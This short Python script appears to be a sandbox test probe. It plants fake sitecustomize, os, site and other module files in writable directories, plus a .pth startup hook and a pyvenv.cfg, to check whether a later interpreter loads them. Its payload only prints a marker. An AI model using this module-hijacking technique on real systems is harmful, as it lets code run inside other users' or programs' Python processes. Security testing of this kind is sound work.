# Leaves: modules in the way.
import os

# What the next interpreter would load if it looked where a program can write.
for directory in ['.', '/tmp', '/build', '/dev/shm']:
    for name in ['sitecustomize', 'usercustomize', 'os', 'site', 'encodings', 'random']:
        open(f'{directory}/{name}.py', 'w').write('print("got in")')
os.makedirs('/tmp/.local/lib/python3.11/site-packages')
open('/tmp/.local/lib/python3.11/site-packages/left.pth', 'w').write('import os; print("got in")')
open('/tmp/pyvenv.cfg', 'w').write('home = /tmp')
